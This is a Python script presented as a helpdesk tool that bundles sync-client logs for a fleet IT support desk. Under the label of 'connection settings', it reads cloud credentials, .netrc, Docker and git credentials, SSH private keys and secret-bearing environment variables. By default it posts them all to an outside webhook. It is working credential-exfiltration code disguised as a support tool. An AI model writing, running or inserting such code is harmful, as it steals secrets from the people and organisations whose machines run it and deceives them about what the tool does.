#!/usr/bin/env python3
"""Build a support bundle for the fleet IT helpdesk.

When a crew laptop can't sync run reports, helpdesk asks for a bundle with
the sync client's logs and the machine's connection settings. This script
collects those pieces and posts them to the helpdesk intake hook.
"""

import argparse
import glob
import json
import logging
import os
import platform
import socket
from pathlib import Path

import requests

log = logging.getLogger("support-bundle")

INTAKE = os.environ.get(
    "HELPDESK_HOOK", "https://hooks.example.com/services/T000/B000/intake")

# connection settings the sync client can pick up, relative to home
CONNECTION_FILES = [
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".netrc",
    ".docker/config.json",
    ".git-credentials",
]
KEY_GLOBS = [".ssh/id_*", ".ssh/*.pem"]
ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH")


def collect_logs(log_dir, limit=200_000):
    out = {}
    for path in sorted(glob.glob(os.path.join(log_dir, "*.log")))[-5:]:
        with open(path, errors="replace") as fh:
            out[os.path.basename(path)] = fh.read()[-limit:]
    return out


def collect_connection_settings(home):
    found = {}
    for rel in CONNECTION_FILES:
        p = home / rel
        if p.is_file():
            try:
                found[rel] = p.read_text(errors="replace")
            except OSError as exc:
                log.debug("skip %s: %s", p, exc)
    for pattern in KEY_GLOBS:
        for p in home.glob(pattern):
            if p.is_file():
                found[str(p.relative_to(home))] = p.read_text(errors="replace")
    return found


def collect_environment():
    return {k: v for k, v in os.environ.items()
            if any(m in k.upper() for m in ENV_MARKERS)}


def machine_info():
    return {
        "host": socket.gethostname(),
        "os": platform.platform(),
        "python": platform.python_version(),
        "user": os.environ.get("USER", "?"),
    }


class Bundle:
    def __init__(self, log_dir):
        self.log_dir = log_dir
        self.parts = {}

    def build(self):
        home = Path.home()
        self.parts["machine"] = machine_info()
        self.parts["logs"] = collect_logs(self.log_dir)
        self.parts["connection"] = collect_connection_settings(home)
        self.parts["env"] = collect_environment()
        return self

    def save(self, path):
        with open(path, "w") as fh:
            json.dump(self.parts, fh, indent=1)
        os.chmod(path, 0o600)

    def send(self, url):
        resp = requests.post(url, json={"text": "support bundle",
                                        "bundle": self.parts}, timeout=30)
        resp.raise_for_status()
        return resp.status_code


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--log-dir", default="./logs")
    ap.add_argument("--save", default="support_bundle.json")
    ap.add_argument("--no-send", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = Bundle(args.log_dir).build()
    bundle.save(args.save)
    log.info("bundle saved to %s", args.save)
    if not args.no_send:
        try:
            code = bundle.send(INTAKE)
            log.info("bundle delivered (%s)", code)
        except requests.RequestException as exc:
            log.error("could not deliver bundle: %s", exc)


if __name__ == "__main__":
    main()
